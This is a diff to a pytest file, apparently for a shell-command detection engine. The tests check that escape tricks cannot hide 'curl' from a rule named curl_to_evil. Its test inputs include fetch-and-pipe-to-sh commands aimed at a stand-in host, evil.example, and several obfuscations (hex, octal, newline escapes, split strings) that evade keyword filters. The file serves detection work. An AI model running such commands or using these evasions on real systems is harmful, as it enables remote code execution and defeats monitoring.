@@ -509,13 +509,25 @@ def test_a_rule_on_chmod_has_needles_and_still_runs_on_file_events_named_chmod()
 
 def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
     eng = prefilter_engine()
-    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\n'") == []  # its escape makes it read
+    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\n'") == []  # a newline makes no word
+    assert eng.parsed == 0
+    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\x0a'") == []  # a hex escape may: read
     assert eng.parsed == 1
     assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s'") == []
     assert _rules(eng, "cut -d'.' -f1 names.txt") == []
     assert eng.parsed == 1
     assert _rules(eng, "printf '%s' https://ok.example/") == [] and eng.parsed == 2  # the program printf is read
     assert _rules(eng, """python3 -c 'import os; os.system("cu"+"rl https://evil.example/x")'""") == ["curl_to_evil"]
+
+
+@pytest.mark.parametrize("text", [
+    "bash -c $'id\\ncurl https://evil.example/x'",  # `idncurl` once the escape is stripped
+    "printf 'id\\ncurl https://evil.example/x' | sh",
+    "echo -e '\\0143url https://evil.example/x' | sh",  # echo's octal: \\0 and three digits
+    "bash -c $'\\x63url https://evil.example/x'",
+])
+def test_an_escape_hides_no_word_from_the_prefilter(text):
+    assert _rules(prefilter_engine(), text) == ["curl_to_evil"]
 
 
 def test_a_rules_own_prefilter_is_trusted_only_where_it_covers_the_condition():
